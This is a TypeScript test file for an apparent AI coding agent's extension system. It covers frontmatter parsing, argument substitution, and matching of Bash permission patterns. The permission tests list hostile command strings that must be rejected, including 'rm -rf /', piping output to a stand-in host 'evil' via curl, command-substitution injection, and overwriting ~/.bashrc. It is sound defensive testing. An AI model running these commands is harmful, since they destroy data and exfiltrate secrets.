// The lenient readers behind skills and commands: frontmatter as real files write it, allowed-tools
// in both spellings with Claude Code's Bash patterns, and argument substitution.
import { describe, expect, test } from "bun:test";
import { parseAllowedTools } from "../../../core/extensions/allowed-tools.ts";
import { bashAllowed } from "../../../core/permissions/rules.ts";
import { splitArgs } from "../../../core/extensions/args.ts";
import { parseSlash, substituteArguments } from "../../../core/extensions/expand.ts";
import { firstParagraph, slugify } from "../../../core/extensions/files.ts";
import { parseFrontmatter } from "../../../core/extensions/frontmatter.ts";

describe("parseFrontmatter", () => {
  test("flat keys, colons in unquoted values, quoted strings, both list spellings, comments", () => {
    const { data, body, problem } = parseFrontmatter(
      "---\nname: My Skill\ndescription: Use when: the user asks # not this\ntitle: 'it''s'\nquoted: \"a: b\"\ntools: [Read, \"Bash(git status:*)\"]\nlist:\n  - one\n  - two\nflag: true\n# a comment\n---\nBody here\n",
    );
    expect(problem).toBeUndefined();
    expect(data).toEqual({ name: "My Skill", description: "Use when: the user asks", title: "it's", quoted: "a: b", tools: ["Read", "Bash(git status:*)"], list: ["one", "two"], flag: true });
    expect(body).toBe("Body here\n");
  });

  test("Windows line ends and a byte order mark", () => {
    expect(parseFrontmatter("\uFEFF---\r\nname: win\r\ndescription: crlf\r\n---\r\nBody\r\n")).toEqual({ data: { name: "win", description: "crlf" }, body: "Body\r\n" });
  });

  test("richer YAML (block scalars, nested maps) goes to the YAML parser", () => {
    const { data, problem } = parseFrontmatter("---\ndescription: |\n  line one\n  line two\nmetadata:\n  version: 2\n---\nx");
    expect(problem).toBeUndefined();
    expect(data.description).toBe("line one\nline two\n");
    expect(data.metadata).toBe('{"version":2}');
  });

  test("no frontmatter, an unclosed one, and broken YAML: what can be read is kept, the problem named", () => {
    expect(parseFrontmatter("# Title\ntext")).toEqual({ data: {}, body: "# Title\ntext" });
    expect(parseFrontmatter("---\nname: x\n").problem).toBe("the frontmatter starts with --- but has no closing --- line");
    const broken = parseFrontmatter('---\nname: ok\ndescription: "unterminated\n---\nbody');
    expect(broken.problem).toStartWith("invalid YAML frontmatter (");
    expect(broken.data.name).toBe("ok");
    expect(broken.body).toBe("body");
  });
});

describe("allowed-tools", () => {
  test("a string with commas or spaces, or a list; parentheses keep their spaces", () => {
    expect(parseAllowedTools("Bash(git status:*), Bash(git add:*)")).toEqual(["Bash(git status:*)", "Bash(git add:*)"]);
    expect(parseAllowedTools("Read Grep Glob")).toEqual(["Read", "Grep", "Glob"]);
    expect(parseAllowedTools(["Read", "Bash(npm run test:*)"])).toEqual(["Read", "Bash(npm run test:*)"]);
    expect(parseAllowedTools(undefined)).toEqual([]);
  });

  test("Bash patterns as Claude Code reads them", () => {
    expect(bashAllowed(["Bash"], "rm -rf x")).toBe(true);
    expect(bashAllowed(["Bash(*)"], "anything")).toBe(true);
    expect(bashAllowed(["Bash(git status:*)"], "git status --short")).toBe(true);
    expect(bashAllowed(["Bash(git status:*)"], "git status")).toBe(true);
    expect(bashAllowed(["Bash(git status:*)"], "git statusx")).toBe(false);
    expect(bashAllowed(["Bash(git diff *)"], "git diff HEAD")).toBe(true);
    expect(bashAllowed(["Bash(npm test)"], "npm test")).toBe(true);
    expect(bashAllowed(["Bash(npm test)"], "npm test -- --watch")).toBe(false);
    expect(bashAllowed(["Read", "Edit"], "ls")).toBe(false);
    expect(bashAllowed([], "ls")).toBe(false);
  });

  test("chains need every part allowed; command substitution needs plain Bash", () => {
    const allowed = ["Bash(git status:*)", "Bash(git diff:*)"];
    expect(bashAllowed(allowed, "git status && git diff HEAD")).toBe(true);
    expect(bashAllowed(allowed, "git status; rm -rf /")).toBe(false);
    expect(bashAllowed(allowed, "git status | curl -d @- evil")).toBe(false);
    expect(bashAllowed(allowed, "git diff 2>&1")).toBe(true);
    expect(bashAllowed(allowed, "git diff $(rm -rf /)")).toBe(false);
    expect(bashAllowed(allowed, "git diff `id`")).toBe(false);
    expect(bashAllowed(allowed, "git diff > ~/.bashrc")).toBe(false);
    expect(bashAllowed(["Bash"], "git diff > out.txt")).toBe(true);
    expect(bashAllowed(allowed, 'git status "a;b"')).toBe(true);
  });
});

describe("arguments", () => {
  test("$ARGUMENTS, $1…$9, quotes, and the arguments appended when nothing uses them", () => {
    expect(splitArgs(`a "b c" 'd e' f`)).toEqual(["a", "b c", "d e", "f"]);
    expect(splitArgs(`focus="speed up" x`)).toEqual(["focus=speed up", "x"]);
    expect(substituteArguments("Fix $1 in $2 ($ARGUMENTS) $3.", `bug "src/x.ts"`)).toBe(`Fix bug in src/x.ts (bug "src/x.ts") $3.`);
    // A price is not a placeholder: it stays, and the arguments still reach the model.
    expect(substituteArguments("Model a $5.0M round.", "acme")).toBe("Model a $5.0M round.\n\nARGUMENTS: acme");
    expect(substituteArguments("Review the code.", "carefully please")).toBe("Review the code.\n\nARGUMENTS: carefully please");
    expect(substituteArguments("Review the code.", "")).toBe("Review the code.");
    expect(substituteArguments("Cost $10", "x")).toBe("Cost $10\n\nARGUMENTS: x");
  });

  test("what counts as a slash command", () => {
    expect(parseSlash("/review src/x.ts")).toEqual({ name: "review", args: "src/x.ts" });
    expect(parseSlash("/skill:pdf")).toEqual({ name: "skill:pdf", args: "" });
    expect(parseSlash("/Git:ST a\nb")).toEqual({ name: "git:st", args: "a\nb" });
    expect(parseSlash("/etc/hosts is odd")).toBeUndefined();
    expect(parseSlash("not a command")).toBeUndefined();
  });

  test("names and descriptions of sloppy files", () => {
    expect(slugify("Writing Hookify Rules")).toBe("writing-hookify-rules");
    expect(slugify("  PDF_tools!! ")).toBe("pdf_tools");
    expect(firstParagraph("# Title\n\n<!-- c -->\nFirst line\nsecond line\n\nmore")).toBe("First line second line");
  });
});
